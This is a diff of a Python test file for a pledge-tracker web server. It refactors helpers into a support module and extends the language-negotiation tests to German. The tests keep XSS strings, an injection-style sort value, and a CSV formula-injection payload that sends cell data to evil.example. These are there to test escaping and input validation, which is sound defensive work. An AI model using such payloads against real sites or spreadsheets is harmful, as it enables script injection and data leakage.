@@ -5,39 +5,29 @@ CSV safe against formulas, JSON, Atom, English and French."""
 
 from __future__ import annotations
 
-import asyncio
 import csv
 import io
 import json
-import threading
 import urllib.error
 import urllib.request
-from datetime import timedelta
 from xml.etree import ElementTree
 
 import pytest
 
 from bot.config import load_entities, load_settings
-from bot.core.models import Entry, Feed, Pledge
+from bot.core.models import Feed, Pledge
 from bot.core.pledges.filters import PledgeFilter, parse_pledge_filters
 from bot.errors import ConfigError
 from bot.web.headers import CSP
 from bot.web.params import BadRequest, View, filter_words, link, parse_view
 from bot.web.server import WebServer
 from bot.web.texts import negotiate
+from tests.support.web_tracker import add_story as _add
+from tests.support.web_tracker import get, serving
 
 HOSTILE_TITLE = 'Aid <script>alert("t")</script> & more'
 HOSTILE_OUTLET = '<img src=x onerror=alert(1)>Wire'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-
-
-def _add(store, clock, feed_id, n, title, outlet, url, pledges, days_ago):
-    when = clock.now() - timedelta(days=days_ago)
-    entry_id = store.insert_entry(feed_id, Entry(feed_url="", guid=f"g{n}", url=url, title=title, published=when),
-                                  url, when)
-    story_id = store.create_story(title, url, when, when, "{}", ["aid"], 2.0)
-    store.add_story_source(story_id, entry_id, feed_id, outlet, url, when)
-    store.add_pledges(story_id, entry_id, pledges, when)
 
 
 @pytest.fixture
@@ -59,35 +49,6 @@ def web(filled, clock):
     yield from serving(WebServer(filled.path, load_entities(), clock, "127.0.0.1", 0))
 
 
-def serving(server: WebServer):
-    loop = asyncio.new_event_loop()
-    ready = threading.Event()
-    stop = asyncio.Event()
-
-    async def serve():
-        await server.start()
-        ready.set()
-        await stop.wait()
-        await server.stop()
-
-    thread = threading.Thread(target=loop.run_until_complete, args=(serve(),), daemon=True)
-    thread.start()
-    assert ready.wait(10)
-    yield f"http://127.0.0.1:{server.port}"
-    loop.call_soon_threadsafe(stop.set)
-    thread.join(10)
-    loop.close()
-
-
-def get(url: str, **headers: str) -> tuple[int, dict, str]:
-    request = urllib.request.Request(url, headers=headers)
-    try:
-        with urllib.request.urlopen(request, timeout=10) as response:
-            return response.status, dict(response.headers), response.read().decode("utf-8")
-    except urllib.error.HTTPError as exc:
-        return exc.code, dict(exc.headers), exc.read().decode("utf-8")
-
-
 # -- parameters -----------------------------------------------------------------------------
 
 
@@ -106,7 +67,7 @@ def test_a_view_comes_from_bounded_parameters():
     assert (view.sort, view.page, view.lang) == ("donor", 3, "fr")
     for query, said in (({"q": ["zzz"]}, "'zzz' not understood"), ({"page": ["0"]}, "from 1 to"),
                         ({"page": ["1e3"]}, "from 1 to"), ({"sort": ["id; drop"]}, "one of newest"),
-                        ({"lang": ["de"]}, "en or fr"), ({"x": ["1"]}, "unknown parameter 'x'"),
+                        ({"lang": ["es"]}, "en, fr or de"), ({"x": ["1"]}, "unknown parameter 'x'"),
                         ({"q": ["a", "b"]}, "given 2 times"), ({"q": ["germany " * 40]}, "too long"),
                         ({"q": ["germany france"]}, "only one donor"), ({"q": ["summary"]}, "Totals page")):
         with pytest.raises(BadRequest, match=said):
@@ -126,8 +87,9 @@ def test_links_change_one_thing_and_go_back_to_page_one():
 def test_the_language_follows_accept_language():
     assert negotiate("fr-FR,fr;q=0.9,en;q=0.8") == "fr"
     assert negotiate("en-GB,en;q=0.9,fr;q=0.8") == "en"
-    assert negotiate("de-DE,de;q=0.9,fr;q=0.5") == "fr"
-    assert negotiate("de") == "en"
+    assert negotiate("de-DE,de;q=0.9,fr;q=0.5") == "de"
+    assert negotiate("es-ES,es;q=0.9,fr;q=0.5") == "fr"
+    assert negotiate("de") == "de" and negotiate("es") == "en"
     assert negotiate(None) == "en"
     assert negotiate("fr;q=0") == "en"
 
